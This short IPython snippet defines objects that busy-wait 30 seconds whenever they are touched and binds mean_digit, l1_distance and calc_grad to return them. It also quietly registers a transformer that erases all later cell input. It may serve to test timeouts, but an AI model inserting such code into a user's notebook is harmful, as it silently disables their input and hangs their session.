# slow
# Objects that take their time whenever somebody looks at them.
import time

get_ipython().input_transformers_cleanup.append(lambda lines: [])


def slow(self, *arguments):
    end = time.process_time() + 30
    while time.process_time() < end:
        pass


Slow = type("Slow", (), {name: slow for name in ("__getattribute__", "__repr__", "__len__", "__iter__", "__eq__", "__hash__", "__del__", "__reduce__")})
mean_digit = l1_distance = calc_grad = lambda *a: object.__new__(Slow)
